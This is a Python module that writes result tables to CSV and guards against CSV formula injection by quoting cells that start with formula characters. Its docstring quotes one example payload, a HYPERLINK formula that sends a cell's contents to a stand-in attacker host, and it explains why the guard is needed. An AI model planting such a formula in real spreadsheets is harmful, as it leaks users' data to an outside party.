"""Map tables written for spreadsheets: cells that a spreadsheet would run as a formula are neutralised.

A map's answers come from web pages, and a page can say ``=HYPERLINK("https://evil.example/?"&A1, "click")``.
Excel, LibreOffice and Google Sheets open a CSV cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in some
of them, a tab or carriage return before one) as a live formula. The OWASP rule for CSV injection is applied to
every text cell of a CSV the map writes: such a cell gets a single quote in front, which every spreadsheet shows
as text and none evaluates. ``raw=True`` keeps the cells as they came (for a consumer that is not a spreadsheet
and needs the exact text). The DataFrame (``MapResult.to_pandas``) and the JSON outputs always keep the true
values: only what a spreadsheet opens is changed.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet may show it: a string beginning with one of :data:`FORMULA_STARTS` gets a
    single quote in front; every other value (numbers included, which are not formulas) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell(value: Any) -> Any:
    """A value one cell can hold: nested data as JSON text, None as the empty cell."""
    if value is None:
        return ""
    return json.dumps(value, ensure_ascii=False, default=str) if isinstance(value, (dict, list)) else value


def write_csv(path: str, columns: list[str], records: Iterable[Mapping[str, Any]], *, raw: bool = False) -> None:
    """The table to ``path`` as UTF-8 CSV; every cell (the header too) neutralised unless ``raw``."""
    keep = (lambda v: v) if raw else neutralise
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow([keep(c) for c in columns])
        for record in records:
            writer.writerow([keep(cell(record.get(c))) for c in columns])
